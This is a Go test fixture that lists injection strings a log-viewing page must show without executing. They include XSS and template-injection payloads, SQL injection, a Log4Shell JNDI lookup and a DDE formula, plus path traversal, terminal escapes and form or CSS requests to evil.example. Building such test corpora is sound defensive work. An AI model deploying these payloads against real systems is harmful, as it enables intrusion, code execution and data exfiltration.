package e2e_test

import "strings"

// corpus are texts that logs may have and that a page must not take for anything else.
// What would run sets __pwned.
func corpus() []string {
	return []string{
		// Elements
		`<script>__pwned=1</script>`,
		`"><script>__pwned=2</script>`,
		`</script><script>__pwned=3</script>`,
		`</title></head><script>__pwned=4</script>`,
		`</textarea><img src=x onerror=__pwned=5>`,
		`<img src=x onerror="__pwned=6;alert(6)">`,
		`<svg onload=__pwned=7>`,
		`<svg><script>__pwned=8</script></svg>`,
		`<svg><a xlink:href="javascript:__pwned=9"><text y=9>x</text></a></svg>`,
		`<iframe srcdoc="<script>parent.__pwned=10</script>"></iframe>`,
		`<details open ontoggle=__pwned=11>`,
		`<object data="javascript:__pwned=12"><embed src="javascript:__pwned=12">`,
		`<template><img src=x onerror=__pwned=13></template>`,
		`</td></tr></table></main></body><h1>Your session has ended</h1>`,
		// Attributes and addresses
		`" autofocus onfocus="__pwned=14" x="`,
		`' onmouseover='__pwned=15' x='`,
		"` onpointerover=`__pwned=16` x=`",
		`javascript:__pwned=17//`,
		"java\tscript:__pwned=18",
		`data:text/html,<script>opener.__pwned=19</script>`,
		`<a href="javascript:__pwned=20">Show</a>`,
		`//evil.example/x`,
		// Other tongues
		`{{constructor.constructor('__pwned=21')()}}`,
		`{{define "main"}}{{.}}{{end}}{{template "main" .}}`,
		`${__pwned=22} #{__pwned=22} <%= __pwned=22 %> [[__pwned=22]]`,
		`'; DROP TABLE system_logs; --`,
		`%_\%\_*?[a-z]`,
		`${jndi:ldap://evil.example/a}`,
		// What parsers read twice
		`<!--><img src=x onerror=__pwned=23>-->`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwned=24&gt;">`,
		`<noscript><p title="</noscript><img src=x onerror=__pwned=25>">`,
		`&lt;script&gt;__pwned=26&lt;/script&gt; &#x22; &amp;amp; &nbsp;`,
		`]]><![CDATA[<script>__pwned=27</script>`,
		`+ADw-script+AD4-__pwned=28+ADw-/script+AD4-`,
		// Looks and requests
		`<style>*{display:none}</style>`,
		`x;}</style>body{background:url(//evil.example/x.png)}`,
		`<link rel=stylesheet href=//evil.example/x.css>`,
		`<meta http-equiv=refresh content="0;url=//evil.example/">`,
		`<base href="//evil.example/">`,
		`<form action="//evil.example/"><input name=x><button>Log in`,
		`<img src='//evil.example/?`,
		// Characters
		"line\u2028separator\u2029paragraph\u0085next",
		"\u202egnp.exe\u202c \u2066isolated\u2069 \u200fmark",
		"ad\u200bmin\ufeff so\u00adft \u2060 joined",
		"a\x00b\x01c\x1bd\x7fe\u009bf",
		"\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
		"first\r\nSet-Thing: x\r\n\r\n\tlast",
		"\xff\xfe\xc0\xaf<b>bold</b>\xed\xa0\x80",
		strings.Repeat("W", 600),
		strings.Repeat("\ufdfd", 60),
		"שלום עולם, مرحبا بالعالم 123 (abc)",
		"👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 \U000e0041\U000e0042",
		"Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘ end",
		// For other programs
		`=HYPERLINK("http://evil.example","Open")`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		`../../../../etc/hosts`,
		`..%2f..%2f%00%0d%0aassets`,
		`?level=FATAL&cols=none#list`,
		`a,b.c\d`,
		`__proto__`,
		`constructor.prototype`,
		`null`,
	}
}
